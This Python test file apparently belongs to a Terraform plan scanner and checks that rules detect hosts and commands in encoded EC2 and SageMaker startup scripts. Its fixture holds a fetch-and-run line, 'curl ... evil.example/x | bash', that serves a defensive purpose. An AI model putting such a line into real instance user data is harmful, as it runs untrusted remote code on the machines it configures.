"""User data of instances in plans."""

from __future__ import annotations

import base64
import gzip
from typing import Any

from rule_case_tests import test_passes, test_rejects
from rule_cases import Case, Document, change, evaluate_rule, plan, put

__all__ = ["test_passes", "test_rejects"]

_SCRIPT = "#!/bin/bash\ncurl -s https://evil.example/x | bash\n"
_VALUES = "planned_values/root_module/resources/0/values"


def planned(kind: str, **values: Any) -> Document:
    """Plan of a resource whose arguments are expressions."""
    document = plan(change(f"{kind}.I", "create", None, values))
    (declared,) = document["configuration"]["root_module"]["resources"]
    declared["expressions"] = {name: {"references": ["var.script"]} for name in values}
    return document


def encoded(content: bytes) -> str:
    return base64.b64encode(content).decode()


CASES = [
    Case(
        "LK_EC2_2",
        planned("aws_instance", user_data="", user_data_base64=encoded(_SCRIPT.encode())),
        {
            "a digest": (
                put(f"{_VALUES}/user_data", "6b66ab9bff7843cde153fb79facb2f2cbb074856"),
                "digest of user_data",
            ),
            "not a text": (put(f"{_VALUES}/user_data_base64", encoded(bytes(range(256)))), "is not known"),
        },
        {
            "without": put(f"{_VALUES}/user_data_base64", ""),
            "compressed": put(f"{_VALUES}/user_data_base64", encoded(gzip.compress(_SCRIPT.encode()))),
        },
    ),
]


def test_hosts_in_encoded_scripts_are_destinations() -> None:
    for content in (_SCRIPT.encode(), gzip.compress(_SCRIPT.encode())):
        document = planned("aws_instance", user_data_base64=encoded(content))
        (found,) = evaluate_rule("LK_DEST_3", document)
        assert "evil.example" in found


def test_scripts_of_notebooks_are_commands() -> None:
    kind = "aws_sagemaker_notebook_instance_lifecycle_configuration"
    document = planned(kind, on_start=encoded(_SCRIPT.encode()))
    assert len(evaluate_rule("LK_ACT_8", document)) == 1
    assert "evil.example" in evaluate_rule("LK_DEST_2", document)[0]
